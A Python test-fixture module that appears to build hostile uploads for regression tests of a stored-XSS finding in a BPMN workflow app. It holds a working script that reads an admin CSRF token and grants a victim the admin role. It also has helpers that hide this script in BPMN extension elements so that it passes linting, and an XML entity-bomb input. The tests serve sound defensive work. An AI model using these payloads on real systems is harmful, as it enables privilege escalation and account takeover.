"""Hostile uploads of issue #11 finding 1 (tệp tải lên độc hại), shared by the web and browser tests.

Each carries the attack that was seen: a script that, run with an administrator's session, reads a
CSRF token from the victim's admin page and grants the victim the admin role. It also calls
``/__xss__/<label>/<step>`` (a 404 that the browser test watches for) and sets the document title,
so that a script that ran is seen even if the grant itself failed.
"""
from __future__ import annotations

import re
from pathlib import Path

BPMN_DIR = Path(__file__).resolve().parents[1] / "bpmn" / "library"
FLAVOURS = Path(__file__).resolve().parent / "fixtures" / "bpmn" / "flavours"
XHTML_NS = "http://www.w3.org/1999/xhtml"
SVG_NS = "http://www.w3.org/2000/svg"
MARK_PATH = "/__xss__/"
XSS_CODE = "2.999911"  # the hostile procedures' TTHC code (not in the demo)


def attack_script(label: str, victim_id: int, org_unit_id: int) -> str:
    """ES5, as an attacker writes it to run in whatever document the browser makes of the file."""
    return f"""
(function () {{
  function mark(step) {{ var x = new XMLHttpRequest(); x.open("GET", "{MARK_PATH}{label}/" + step); x.send(); }}
  mark("ran");
  document.title = "XSS {label}";
  fetch("/admin/users/{victim_id}", {{credentials: "same-origin"}}).then(function (r) {{ return r.text(); }})
    .then(function (html) {{
      var token = /name="(grant-csrf_token|csrf_token)"[^>]*value="([^"]+)"/.exec(html);
      var form = new FormData();
      form.append("grant-csrf_token", token[2]);
      form.append("csrf_token", token[2]);
      form.append("grant-role", "admin");
      form.append("grant-org_unit", "{org_unit_id}");
      return fetch("/admin/users/{victim_id}/roles", {{method: "POST", body: form, credentials: "same-origin"}});
    }}).then(function () {{ mark("granted"); }});
}})();
"""


def xhtml_page(script: str) -> bytes:
    """An XHTML document uploaded as a BPMN: lint refuses it (BPMN_INVALID, exit code 2)."""
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n<html xmlns="{XHTML_NS}"><head><title>Quy trình</title>'
            f"</head><body><p>Quy trình nội bộ</p><script><![CDATA[{script}]]></script></body></html>\n"
            ).encode("utf-8")


def _inject(source: bytes, script: str) -> bytes:
    """*source* with an XHTML <script> (and an SVG one) in its first bpmn:extensionElements."""
    text = source.decode("utf-8")
    text = text.replace("<bpmn:definitions ", f'<bpmn:definitions xmlns:html="{XHTML_NS}" xmlns:svg="{SVG_NS}" ', 1)
    payload = (f"<html:script><![CDATA[{script}]]></html:script>"
               f'<svg:svg><svg:script><![CDATA[document.title = "XSS svg";]]></svg:script></svg:svg>')
    text, n = re.subn(r"(<bpmn:extensionElements>)", r"\1" + payload.replace("\\", "\\\\"), text, count=1)
    assert n == 1, "no bpmn:extensionElements to hide the script in"
    return text.encode("utf-8")


def lint_clean_with_script(script: str) -> bytes:
    """The shipped department-level procedure (authority "so": no Văn phòng review) with the script
    in its extension elements and its own TTHC code: lint-clean, so it can be approved and published."""
    source = (BPMN_DIR / "department_parallel.bpmn").read_bytes()
    source = re.sub(rb'(name="tthc.code" value=")[^"]*"', rb'\g<1>' + XSS_CODE.encode() + b'"', source, count=1)
    return _inject(source, script)


def policy_failing_with_script(script: str) -> bytes:
    """A readable BPMN that fails the policy check (VP_REVIEW_BYPASSED, exit code 1), with the script."""
    return _inject((FLAVOURS / "camunda7_modeler5_bypass.bpmn").read_bytes(), script)


def entity_bomb() -> bytes:
    """XML_UNSAFE (exit code 2)."""
    return (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">]>'
            b'<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL">&lol;</definitions>')
